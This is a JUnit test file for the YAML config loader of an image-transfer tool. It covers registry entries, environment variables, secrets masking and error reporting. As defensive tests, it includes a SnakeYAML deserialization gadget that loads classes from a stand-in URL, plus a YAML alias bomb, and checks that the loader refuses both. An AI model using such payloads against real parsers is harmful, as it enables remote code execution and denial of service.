package dev.ferry.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.ferry.ref.Registries.Scheme;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;

class ConfigLoaderTest {

    @TempDir
    Path dir;

    private Path write(String yaml) throws IOException {
        Path f = dir.resolve("cfg.yaml");
        Files.writeString(f, yaml, StandardCharsets.UTF_8);
        return f;
    }

    private FerryConfig load(String yaml) throws IOException {
        return ConfigLoader.load(write(yaml), Map.of());
    }

    private FerryConfig load(String yaml, Map<String, String> env) throws IOException {
        return ConfigLoader.load(write(yaml), env);
    }

    private ConfigException fails(String yaml) throws IOException {
        return fails(yaml, Map.of());
    }

    private ConfigException fails(String yaml, Map<String, String> env) throws IOException {
        Path f = write(yaml);
        return assertThrows(ConfigException.class, () -> ConfigLoader.load(f, env));
    }

    private void assertAt(ConfigException e, int line, int column, String fragment) {
        Path f = dir.resolve("cfg.yaml");
        String prefix = f + ":" + line + ":" + column + ": ";
        assertTrue(e.getMessage().startsWith(prefix), () -> "expected " + prefix + "... but was " + e.getMessage());
        assertTrue(e.getMessage().contains(fragment), () -> "expected \"" + fragment + "\" in " + e.getMessage());
        assertTrue(e.getMessage().contains("; "), () -> "no expectation in " + e.getMessage());
        assertEquals(line, e.line());
        assertEquals(column, e.column());
    }

    // ------------------------------------------------------------------ image-transmit's sample

    @Test
    void readsImageTransmitsSampleExactly() throws IOException {
        Path f = dir.resolve("cfg.yaml");
        try (InputStream in = getClass().getResourceAsStream("image-transmit-cfg.yaml")) {
            Files.write(f, in.readAllBytes());
        }
        FerryConfig c = ConfigLoader.load(f, Map.of());

        assertEquals(1, c.sources().size());
        RegistryEntry src = c.sources().get(0);
        assertEquals("10.45.80.1", src.host());
        assertEquals(Scheme.HTTP, src.scheme());
        assertEquals("10.45.80.1", src.name());
        assertNull(src.user());
        assertNull(src.password());
        assertNull(src.repository());
        assertFalse(src.insecure());
        assertNull(src.ca());
        assertEquals(2, src.line());
        assertEquals(3, src.column());

        RegistryEntry dst = c.targets().get(0);
        assertEquals("10.45.46.109", dst.host());
        assertEquals(Scheme.HTTP, dst.scheme());
        assertEquals("10.45.46.109", dst.name());
        assertEquals(7, dst.line());

        assertEquals(5, c.maxconn());
        assertEquals(2, c.retries());
        assertFalse(c.singlefile());
        assertFalse(c.dockerfile());
        assertNull(c.compressor());
        assertNull(c.lang());
        assertNull(c.cache());
        assertNull(c.outprefix());
        assertEquals(60, c.interval());
        assertEquals(List.of(), c.dingtalk());
        assertFalse(c.skiptlsverify());
        assertEquals(f, c.file());
        assertEquals(Map.of(), c.extra());
    }

    @Test
    void readsTheShippedExample() {
        FerryConfig c = ConfigLoader.load(Path.of("cfg.yaml.example"), Map.of());
        assertEquals("10.45.80.1", c.source("nj").host());
        assertEquals(Scheme.HTTP, c.target("gz").scheme());
        assertEquals(Map.of(), c.extra());
    }

    @Test
    void refusesHugeFiles() throws IOException {
        Path f = dir.resolve("cfg.yaml");
        Files.write(f, new byte[(int) ConfigLoader.MAX_SIZE + 1]);
        ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.load(f, Map.of()));
        assertTrue(e.getMessage().contains("too long for a configuration file"), e.getMessage());
    }

    @Test
    void sampleWithEveryOptionUncommented() throws IOException {
        FerryConfig c = load("""
                source: # 源仓库信息配置,可以支持多个
                - registry: "http://10.45.80.1"
                  user: admin
                  password: "0123"
                  name: nj
                  insecure: true
                  cleartext_credentials: true
                target:
                - registry: "https://harbor.example:8443/"
                  user:
                  password:
                  repository: yyyy
                  name: gz
                maxconn: 8 # 可选配置，最大并发数，默认5
                retries: 0
                singlefile: true
                dockerfile: yes
                compressor: squashfs
                lang: zh_CN
                cache:
                  pathname: /var/cache/ferry
                  keepdays: 3
                  keepsize: 20
                outprefix: release
                interval: 120
                dingtalk:
                - token : abc
                  secret: s3cr3t
                skiptlsverify: false
                """);
        RegistryEntry nj = c.source("nj");
        assertEquals("admin", nj.user());
        assertEquals("0123", nj.password());
        assertTrue(nj.cleartextCredentials());
        RegistryEntry gz = c.target("gz");
        assertEquals("harbor.example:8443", gz.host());
        assertEquals(Scheme.HTTPS, gz.scheme());
        assertEquals("yyyy", gz.repository());
        assertNull(gz.user());
        assertEquals(8, c.maxconn());
        assertEquals(0, c.retries());
        assertTrue(c.singlefile());
        assertTrue(c.dockerfile());
        assertEquals("squashfs", c.compressor());
        assertEquals("zh_CN", c.lang());
        assertEquals(new CacheSettings("/var/cache/ferry", 3, 20 * CacheSettings.GIB), c.cache());
        assertEquals("release", c.outprefix());
        assertEquals(120, c.interval());
        assertEquals(List.of(new DingTalk("abc", "s3cr3t")), c.dingtalk());
        assertFalse(c.skiptlsverify());
    }

    @Test
    void robotsTakeAnEndpointAndWebhooksAreListedUnderNotify() throws IOException {
        FerryConfig c = load("""
                dingtalk:
                - token: abc
                  secret: s3cr3t
                  url: http://127.0.0.1:9/robot/send
                notify:
                - url: https://hooks.example/ferry?key=k3y
                  secret: h00k
                - url: http://127.0.0.1:9/plain
                """);
        assertEquals(List.of(new DingTalk("abc", "s3cr3t", "http://127.0.0.1:9/robot/send")), c.dingtalk());
        assertEquals("http://127.0.0.1:9/robot/send", c.dingtalk().get(0).endpoint());
        assertEquals(DingTalk.DEFAULT_URL, new DingTalk("abc", null).endpoint());
        assertEquals(List.of(new Webhook("https://hooks.example/ferry?key=k3y", "h00k"), new Webhook("http://127.0.0.1:9/plain", null)), c.webhooks());
        assertEquals("https://hooks.example/ferry", c.webhooks().get(0).shown(), "no query (it may hold a key) in messages");
        assertFalse(c.toString().contains("h00k") || c.toString().contains("k3y") || c.toString().contains("s3cr3t"), c::toString);
        ConfigException e = assertThrows(ConfigException.class, () -> load("notify:\n- secret: x\n"));
        assertTrue(e.getMessage().contains("a notify entry has no http(s) url"), e::getMessage);
    }

    @Test
    void emptyFileAndCommentsOnlyGiveTheDefaults() throws IOException {
        for (String text : new String[] {"", "# nothing yet\n", "---\n", "~\n"}) {
            FerryConfig c = load(text);
            assertEquals(FerryConfig.empty().sources(), c.sources());
            assertEquals(5, c.maxconn());
            assertEquals(dir.resolve("cfg.yaml"), c.file());
        }
        FerryConfig e = FerryConfig.empty();
        assertEquals(List.of(), e.sources());
        assertEquals(List.of(), e.targets());
        assertEquals(5, e.maxconn());
        assertEquals(2, e.retries());
        assertEquals(60, e.interval());
        assertNull(e.cache());
        assertNull(e.file());
        assertEquals(Map.of(), e.extra());
    }

    @Test
    void byteOrderMarkIsIgnored() throws IOException {
        Path f = dir.resolve("cfg.yaml");
        Files.write(f, ("\uFEFFsource:\n- registry: reg.example\n").getBytes(StandardCharsets.UTF_8));
        assertEquals("reg.example", ConfigLoader.load(f, Map.of()).sources().get(0).host());
    }

    @Test
    void invalidUtf8IsReportedWhereItIs() throws IOException {
        Path f = dir.resolve("cfg.yaml");
        byte[] head = "source:\n- registry: reg.example\n  user: ab".getBytes(StandardCharsets.UTF_8);
        byte[] bytes = new byte[head.length + 2];
        System.arraycopy(head, 0, bytes, 0, head.length);
        bytes[head.length] = (byte) 0xC3;
        bytes[head.length + 1] = (byte) 0x28;
        Files.write(f, bytes);
        ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.load(f, Map.of()));
        assertAt(e, 3, 11, "not UTF-8");
    }

    // ------------------------------------------------------------------ names

    @Test
    void defaultNamesAreHostAndRepository() throws IOException {
        FerryConfig c = load("""
                source:
                - registry: "http://10.45.80.1"
                target:
                - registry: "http://10.45.80.1"
                  repository: yyyy
                - registry: localhost:5000
                """);
        assertEquals("10.45.80.1", c.sources().get(0).name());
        assertEquals("10.45.80.1-yyyy", c.targets().get(0).name());
        assertEquals("localhost:5000", c.targets().get(1).name());
    }

    @Test
    void sameRegistryUnnamedAsSourceAndTargetIsAllowed() throws IOException {
        FerryConfig c = load("""
                source:
                - registry: reg.example
                  user: reader
                target:
                - registry: reg.example
                  user: writer
                """);
        assertEquals("reader", c.source("reg.example").user());
        assertEquals("writer", c.target("reg.example").user());
    }

    @Test
    void duplicateNamesReportBothLines() throws IOException {
        ConfigException e = fails("""
                source:
                - registry: a.example
                  name: nj
                target:
                - registry: b.example
                  name: gz
                - registry: c.example
                  name: nj
                """);
        assertAt(e, 7, 3, "registry name \"nj\" is already used by the registry at line 2, column 3");

        e = fails("""
                source:
                - registry: a.example
                target:
                - registry: b.example
                  name: a.example
                """);
        assertAt(e, 4, 3, "registry name \"a.example\" is already used by the registry at line 2, column 3 (its default name)");
    }

    @Test
    void lookupsBySourceTargetAndName() throws IOException {
        FerryConfig c = load("""
                source:
                - {registry: a.example, name: nj}
                - {registry: b.example, name: sh}
                target:
                - {registry: c.example, name: gz}
                """);
        assertEquals("nj", c.source(null).name());
        assertEquals("gz", c.target(null).name());
        assertEquals("sh", c.source("sh").name());
        assertEquals("gz", c.source("gz").name(), "a target may serve as a source");
        assertEquals("nj", c.target("nj").name(), "a source may serve as a target");
        assertEquals(Optional.of("b.example"), c.registry("sh").map(RegistryEntry::host));
        assertEquals(Optional.empty(), c.registry("xx"));
        assertEquals(List.of("nj", "sh", "gz"), c.names());

        ConfigException e = assertThrows(ConfigException.class, () -> c.source("xx"));
        assertEquals(dir.resolve("cfg.yaml") + ": unknown source registry name \"xx\"; expected one of: nj, sh, gz", e.getMessage());

        FerryConfig none = FerryConfig.empty();
        e = assertThrows(ConfigException.class, () -> none.target(null));
        assertTrue(e.getMessage().startsWith("no target registry is configured; "), e.getMessage());
        e = assertThrows(ConfigException.class, () -> none.source("nj"));
        assertTrue(e.getMessage().contains("none is configured"), e.getMessage());
    }

    // ------------------------------------------------------------------ values

    @Test
    void environmentVariablesAreSubstituted() throws IOException {
        FerryConfig c = load("""
                source:
                - registry: ${SRC_REGISTRY}
                  user: ${SRC_USER}
                  password: "${SRC_PASSWORD}"
                  name: src-${SITE}
                  insecure: true
                  cleartext_credentials: true
                target:
                - registry: reg.example
                  password: p$${NOT_A_VARIABLE}q$x$
                maxconn: ${CONNS}
                outprefix: ${SITE}_release
                """, Map.of("SRC_REGISTRY", "http://10.45.80.1", "SRC_USER", "robot$1",
                "SRC_PASSWORD", "pa ss: #word", "SITE", "nj", "CONNS", "9"));
        RegistryEntry s = c.sources().get(0);
        assertEquals("10.45.80.1", s.host());
        assertEquals(Scheme.HTTP, s.scheme());
        assertEquals("robot$1", s.user(), "substituted values are not substituted again");
        assertEquals("pa ss: #word", s.password());
        assertEquals("src-nj", s.name());
        assertEquals("p${NOT_A_VARIABLE}q$x$", c.targets().get(0).password());
        assertEquals(9, c.maxconn());
        assertEquals("nj_release", c.outprefix());
    }

    @Test
    void missingEnvironmentVariableIsNamedWithItsLine() throws IOException {
        ConfigException e = fails("""
                source:
                - registry: reg.example
                  password: x${REG_PASSWORD}
                """);
        assertAt(e, 3, 14, "environment variable REG_PASSWORD (used by password) is not set");

        e = fails("""
                source:
                - registry: reg.example
                  password: "${REG_PASSWORD"
                """);
        assertAt(e, 3, 13, "has \"${\" without a closing \"}\"");

        e = fails("""
                source:
                - registry: reg.example
                  user: ${1X}
                """);
        assertAt(e, 3, 9, "\"${1X}\", which is not a variable name");
    }

    @Test
    void passwordFileIsReadRelativeToTheConfigFile() throws IOException {
        Files.createDirectories(dir.resolve("secrets"));
        Files.writeString(dir.resolve("secrets/nj.txt"), "s3cret:#\r\n");
        FerryConfig c = load("""
                source:
                - registry: reg.example
                  user: robot
                  password:
                  password_file: secrets/nj.txt
                """);
        assertEquals("s3cret:#", c.sources().get(0).password());
        assertFalse(c.sources().get(0).toString().contains("s3cret"));
    }

    @Test
    void passwordFileErrors() throws IOException {
        ConfigException e = fails("""
                source:
                - registry: reg.example
                  password_file: missing.txt
                """);
        assertAt(e, 3, 18, "password_file \"missing.txt\" does not exist");

        Files.writeString(dir.resolve("pw"), "x\n");
        e = fails("""
                source:
                - registry: reg.example
                  password: abc
                  password_file: pw
                """);
        assertAt(e, 4, 3, "has both password and password_file");
    }

    @Test
    void caIsResolvedRelativeToTheConfigFile() throws IOException {
        Files.writeString(dir.resolve("ca.pem"), "-----BEGIN CERTIFICATE-----\n");
        FerryConfig c = load("""
                target:
                - registry: reg.example
                  ca: ca.pem
                  insecure: true
                """);
        assertEquals(dir.resolve("ca.pem").toAbsolutePath().normalize(), c.targets().get(0).ca());
        assertTrue(c.targets().get(0).insecure());

        ConfigException e = fails("""
                target:
                - registry: reg.example
                  ca: nowhere.pem
                """);
        assertAt(e, 3, 7, "ca file \"nowhere.pem\" does not exist");
    }

    @ParameterizedTest(name = "keepsize: {0}")
    @CsvSource(delimiter = '|', textBlock = """
            10          | 10737418240
            1           | 1073741824
            1.5         | 1610612736
            '"10"'      | 10737418240
            500MB       | 524288000
            500 mb      | 524288000
            2GB         | 2147483648
            1.5G        | 1610612736
            10GiB       | 10737418240
            512K        | 524288
            1T          | 1099511627776
            4096B       | 4096
            """)
    void keepsizeForms(String value, long bytes) throws IOException {
        FerryConfig c = load("cache:\n  keepsize: " + value + "\n");
        assertEquals(bytes, c.cache().keepsize());
        assertEquals("cache", c.cache().pathname());
        assertEquals(7, c.cache().keepdays());
    }

    @Test
    void cacheSwitches() throws IOException {
        assertNull(load("cache:\n").cache());
        assertNull(load("cache: false\n").cache());
        assertEquals(CacheSettings.DEFAULTS, load("cache: true\n").cache());
        assertEquals(CacheSettings.DEFAULTS, load("cache: {}\n").cache());
        assertEquals(10L * 1024 * 1024 * 1024, CacheSettings.DEFAULTS.keepsize());
        assertEquals(dir.resolve("cache"), CacheSettings.DEFAULTS.directory(dir));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            yes   | true
            Yes   | true
            on    | true
            TRUE  | true
            '"true"' | true
            no    | false
            off   | false
            False | false
            """)
    void yamlBooleansAreAccepted(String value, boolean expected) throws IOException {
        FerryConfig c = load("skiptlsverify: " + value + "\nsinglefile: " + value + "\ndockerfile: " + value + "\n");
        assertEquals(expected, c.skiptlsverify());
        assertEquals(expected, c.singlefile());
        assertEquals(expected, c.dockerfile());
    }

    @ParameterizedTest(name = "lang: {0}")
    @CsvSource(delimiter = '|', textBlock = """
            en_US       | en_US
            en_us       | en_US
            EN          | en_US
            en-US       | en_US
            zh_CN       | zh_CN
            zh          | zh_CN
            ZH_cn       | zh_CN
            zh_CN.UTF-8 | zh_CN
            """)
    void languages(String value, String expected) throws IOException {
        assertEquals(expected, load("lang: " + value + "\n").lang());
    }

    @ParameterizedTest(name = "compressor: {0}")
    @CsvSource({"tar,tar", "lz4,lz4", "xz,xz", "squashfs,squashfs", "LZ4,lz4"})
    void compressors(String value, String expected) throws IOException {
        assertEquals(expected, load("compressor: " + value + "\n").compressor());
    }

    @Test
    void unknownKeysAreIgnoredWithAWarningNamingTheClosestKnownKeyWhereverTheyAre() throws IOException {
        FerryConfig c = load("""
                maxconnn: 9
                source:
                - registry: a.example
                  pasword: s3cret-value
                target:
                - registry: b.example
                - registry: c.example
                  insecur: true
                cache:
                  keepsise: 1
                dingtalk:
                - tokn: t0ken-value
                keeptemp: true
                """);
        assertEquals(FerryConfig.DEFAULT_MAXCONN, c.maxconn(), "an unknown key changes nothing");
        assertEquals(null, c.sources().get(0).password(), "pasword: is not taken for password:");
        assertFalse(c.targets().get(1).insecure());
        List<String> shown = c.warnings().stream().map(ConfigWarning::toString).toList();
        String f = dir.resolve("cfg.yaml").toString();
        assertEquals(List.of(
                f + ":1:1: unknown key \"maxconnn\", ignored; did you mean \"maxconn\"?",
                f + ":4:3: unknown key \"source[0].pasword\", ignored; did you mean \"password\"?",
                f + ":8:3: unknown key \"target[1].insecur\", ignored; did you mean \"insecure\"?",
                f + ":10:3: unknown key \"cache.keepsise\", ignored; did you mean \"keepsize\"?",
                f + ":12:3: unknown key \"dingtalk[0].tokn\", ignored; did you mean \"token\"?",
                f + ":13:1: unknown key \"keeptemp\", ignored; the keys known there: source, target, maxconn, retries, singlefile,"
                        + " dockerfile, compressor, lang, cache, outprefix, interval, dingtalk, skiptlsverify, notify, referrers"), shown);
        for (String w : shown) assertFalse(w.contains("s3cret") || w.contains("t0ken"), "a warning never shows a value: " + w);
        assertEquals(List.of(), load("maxconn: 3\nsource:\n- registry: a.example\n  user: u\n").warnings(), "known keys: no warning");
    }

    @Test
    void unknownTopLevelKeysAreKept() throws IOException {
        FerryConfig c = load("""
                squashfs: /usr/bin/mksquashfs
                keeptemp: true
                future:
                  level: 3
                  ratio: 0.5
                  list: [a, 1, ~]
                maxconn: 4
                """);
        assertEquals(4, c.maxconn());
        assertEquals(List.of("squashfs", "keeptemp", "future"), List.copyOf(c.extra().keySet()));
        assertEquals("/usr/bin/mksquashfs", c.extra().get("squashfs"));
        assertEquals(Boolean.TRUE, c.extra().get("keeptemp"));
        @SuppressWarnings("unchecked")
        Map<String, Object> future = (Map<String, Object>) c.extra().get("future");
        assertEquals(3L, future.get("level"));
        assertEquals(0.5, future.get("ratio"));
        assertEquals(java.util.Arrays.asList("a", 1L, null), future.get("list"));
        assertThrows(UnsupportedOperationException.class, () -> c.extra().put("x", 1));
        assertThrows(UnsupportedOperationException.class, () -> future.put("x", 1));
    }

    @Test
    void mergeKeysShareCredentials() throws IOException {
        FerryConfig c = load("""
                x-login: &login
                  user: robot
                  password: pw
                source:
                - <<: *login
                  registry: a.example
                target:
                - <<: *login
                  registry: b.example
                  user: admin
                """);
        assertEquals("robot", c.sources().get(0).user());
        assertEquals("pw", c.sources().get(0).password());
        assertEquals("admin", c.targets().get(0).user(), "keys written in the entry win over merged ones");
        assertEquals("pw", c.targets().get(0).password());
        assertFalse(c.toString().contains("pw"), "unknown keys show without their values: " + c);
        assertTrue(c.toString().contains("extra keys=[x-login]"), c.toString());
    }

    @Test
    void toStringNeverShowsSecrets() throws IOException {
        FerryConfig c = load("""
                source:
                - registry: reg.example
                  user: robot
                  password: hunter2
                dingtalk:
                - token: tok3n
                  secret: s3cr3t
                """);
        String s = c.toString();
        assertFalse(s.contains("hunter2"), s);
        assertFalse(s.contains("tok3n"), s);
        assertFalse(s.contains("s3cr3t"), s);
        assertTrue(s.contains("password=***"), s);
        assertTrue(c.sources().get(0).toString().contains("user=robot"));
    }

    @Test
    void emptyDingtalkTemplateIsSkipped() throws IOException {
        assertEquals(List.of(), load("dingtalk:\n- token :\n  secret:\n").dingtalk());
    }

    // ------------------------------------------------------------------ errors

    static Stream<Arguments> errors() {
        return Stream.of(
                Arguments.of("syntax: unclosed bracket", "source: [a.example\n", 2, 1, "YAML syntax error: expected ',' or ']', but got <stream end> (while parsing a flow sequence started at line 1, column 9)"),
                Arguments.of("syntax: bad indentation", "source:\n- registry: a.example\n user: x\n", 3, 2, "YAML syntax error"),
                Arguments.of("syntax: tab", "source:\n\t- registry: a\n", 2, 1, "YAML syntax error"),
                Arguments.of("top level is a list", "- registry: a.example\n", 1, 1, "the file holds a list at the top level"),
                Arguments.of("top level is text", "hello\n", 1, 1, "the file holds the value \"hello\" at the top level"),
                Arguments.of("duplicate top-level key", "maxconn: 1\nmaxconn: 2\n", 2, 1, "duplicate key \"maxconn\" in the top level (first at line 1, column 1)"),
                Arguments.of("source is a mapping", "source:\n  registry: a.example\n", 2, 3, "source is a mapping, not a list of registries"),
                Arguments.of("target is a string", "target: b.example\n", 1, 9, "target is the value \"b.example\", not a list of registries"),
                Arguments.of("entry is a string", "source:\n- a.example\n", 2, 3, "an entry of source is the value \"a.example\", not a registry"),
                Arguments.of("no registry key", "source:\n- user: x\n  password: y\n", 2, 3, "a source registry has no registry address"),
                Arguments.of("empty registry", "target:\n- registry: \"\"\n", 2, 13, "a target registry has no registry address"),
                Arguments.of("registry with a path", "source:\n- registry: http://a.example/v2\n", 2, 13, "invalid registry \"http://a.example/v2\""),
                Arguments.of("registry with a bad port", "source:\n- registry: a.example:99999\n", 2, 13, "port 99999 is outside 1-65535"),
                Arguments.of("registry is a bare name", "source:\n- registry: harbor\n", 2, 13, "is a bare name"),
                Arguments.of("name with a slash", "source:\n- registry: a.example\n  name: a/b\n", 3, 9, "name \"a/b\" contains '/'"),
                Arguments.of("bad repository", "target:\n- registry: a.example\n  repository: Team/App\n", 3, 15, "repository \"Team/App\" is not valid"),
                Arguments.of("repository with a tag", "target:\n- registry: a.example\n  repository: team:1\n", 3, 15, "repository \"team:1\" contains ':'"),
                Arguments.of("negative maxconn", "maxconn: -1\n", 1, 10, "maxconn is -1, which is negative"),
                Arguments.of("zero maxconn", "maxconn: 0\n", 1, 10, "maxconn is 0"),
                Arguments.of("fractional maxconn", "maxconn: 2.5\n", 1, 10, "maxconn is \"2.5\", which is not a whole number"),
                Arguments.of("maxconn a word", "maxconn: many\n", 1, 10, "not a whole number"),
                Arguments.of("maxconn a list", "maxconn: [1]\n", 1, 10, "maxconn is a list"),
                Arguments.of("negative retries", "retries: -2\n", 1, 10, "retries is -2, which is negative"),
                Arguments.of("huge retries", "retries: 99999999999999999999\n", 1, 10, "far too large"),
                Arguments.of("interval not a number", "interval: 1m\n", 1, 11, "interval is \"1m\", which is not a whole number"),
                Arguments.of("negative keepdays", "cache:\n  keepdays: -7\n", 2, 13, "keepdays is -7, which is negative"),
                Arguments.of("bad keepsize unit", "cache:\n  keepsize: 10XB\n", 2, 13, "keepsize \"10XB\" has an unknown unit \"XB\""),
                Arguments.of("negative keepsize", "cache:\n  keepsize: -1\n", 2, 13, "keepsize \"-1\" is not a size"),
                Arguments.of("zero keepsize", "cache:\n  keepsize: 0\n", 2, 13, "is not more than 0 bytes"),
                Arguments.of("cache a list", "cache: [a]\n", 1, 8, "cache is a list"),
                Arguments.of("skiptlsverify typo", "skiptlsverify: fasle\n", 1, 16, "skiptlsverify is \"fasle\", which is not a boolean"),
                Arguments.of("singlefile a number", "singlefile: 1\n", 1, 13, "singlefile is \"1\", which is not a boolean"),
                Arguments.of("dockerfile a word", "dockerfile: docker\n", 1, 13, "dockerfile is \"docker\""),
                Arguments.of("insecure a word", "source:\n- registry: a.example\n  insecure: maybe\n", 3, 13, "insecure is \"maybe\""),
                Arguments.of("unknown compressor", "compressor: gzip\n", 1, 13, "compressor is \"gzip\", which ferry does not know"),
                Arguments.of("unknown lang", "lang: fr_FR\n", 1, 7, "lang is \"fr_FR\""),
                Arguments.of("dingtalk a mapping", "dingtalk:\n  token: x\n", 2, 3, "dingtalk is a mapping, not a list of robots"),
                Arguments.of("dingtalk without token", "dingtalk:\n- secret: x\n", 2, 3, "has a secret but no token"),
                Arguments.of("duplicate key in an entry", "source:\n- registry: a.example\n  registry: b.example\n", 3, 3, "duplicate key \"registry\" in a source registry (first at line 2, column 3)"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("errors")
    void errorsSayWhereWhatAndWhatIsExpected(String title, String yaml, int line, int column, String fragment) throws IOException {
        assertAt(fails(yaml), line, column, fragment);
    }

    @Test
    void aliasBombsAreRefused() throws IOException {
        StringBuilder b = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i <= 9; i++) {
            b.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 10; j++) {
                b.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            b.append("]\n");
        }
        ConfigException e = fails(b.toString());
        assertTrue(e.getMessage().contains("aliases"), e.getMessage());
        assertEquals(7, e.line(), e.getMessage());
    }

    @Test
    void selfReferencesAreRefused() throws IOException {
        ConfigException e = fails("loop: &l [*l]\n");
        assertTrue(e.getMessage().contains("nest too deeply"), e.getMessage());
    }

    @Test
    void tagsConstructNothing() throws IOException {
        ConfigException e = fails("""
                evil: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.invalid/"]]]]
                """);
        assertAt(e, 1, 7, "Global tag is not allowed");

        FerryConfig c = load("""
                local: !thing [a]
                source:
                - registry: !!str a.example
                """);
        assertEquals("a.example", c.sources().get(0).host());
        assertEquals(List.of("a"), c.extra().get("local"));
    }

    // ------------------------------------------------------------------ locate

    @Test
    void locateLooksInTheWorkingDirectoryThenData() throws IOException {
        assertEquals(Optional.empty(), ConfigLoader.locate(dir, null));
        Files.createDirectories(dir.resolve("data"));
        Files.writeString(dir.resolve("data/cfg.yaml"), "maxconn: 3\n");
        assertEquals(Optional.of(dir.resolve("data/cfg.yaml")), ConfigLoader.locate(dir, null));
        Files.writeString(dir.resolve("cfg.yaml"), "maxconn: 4\n");
        assertEquals(Optional.of(dir.resolve("cfg.yaml")), ConfigLoader.locate(dir, null));
        Files.writeString(dir.resolve("other.yaml"), "maxconn: 6\n");
        assertEquals(Optional.of(dir.resolve("other.yaml")), ConfigLoader.locate(dir, Path.of("other.yaml")));
        assertEquals(6, ConfigLoader.locateAndLoad(dir, Path.of("other.yaml"), Map.of()).maxconn());
        assertEquals(4, ConfigLoader.locateAndLoad(dir, null, Map.of()).maxconn());
    }

    @Test
    void locateWithoutAnyFileGivesTheDefaults() {
        assertEquals(FerryConfig.empty(), ConfigLoader.locateAndLoad(dir, null, Map.of()));
    }

    @Test
    void explicitConfigMustExist() throws IOException {
        ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.locate(dir, Path.of("nope.yaml")));
        assertEquals("nope.yaml: no such file; expected --config to name an existing cfg.yaml", e.getMessage());
        Files.createDirectories(dir.resolve("d"));
        e = assertThrows(ConfigException.class, () -> ConfigLoader.locate(dir, Path.of("d")));
        assertTrue(e.getMessage().startsWith("d: is a directory"), e.getMessage());
        Files.writeString(dir.resolve("cfg.yaml"), "maxconn: 4\n");
        assertThrows(ConfigException.class, () -> ConfigLoader.locate(dir, Path.of("nope.yaml")),
                "an explicit file that is missing is an error even when ./cfg.yaml exists");
    }

    @Test
    void parseWithoutAFileNamesItCfgYaml() {
        ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.parse("maxconn: x\n", null, Map.of()));
        assertTrue(e.getMessage().startsWith("cfg.yaml:1:10: maxconn is \"x\""), e.getMessage());
    }

    @Test
    void quotedNumbersAndPasswordsStayText() throws IOException {
        FerryConfig c = load("""
                maxconn: "7"
                source:
                - registry: a.example
                  user: 007
                  password: yes
                """);
        assertEquals(7, c.maxconn());
        assertEquals("007", c.sources().get(0).user());
        assertEquals("yes", c.sources().get(0).password());
    }

    @Test
    void registryEntryForCommandLineAddresses() {
        RegistryEntry e = RegistryEntry.of("http://127.0.0.1:5000/");
        assertEquals("127.0.0.1:5000", e.host());
        assertEquals(Scheme.HTTP, e.scheme());
        assertEquals("127.0.0.1:5000", e.name());
        assertEquals("http://127.0.0.1:5000", e.address());
        assertFalse(e.hasCredentials());
        assertFalse(e.withCredentials("u", "secret").toString().contains("secret"));
    }
}
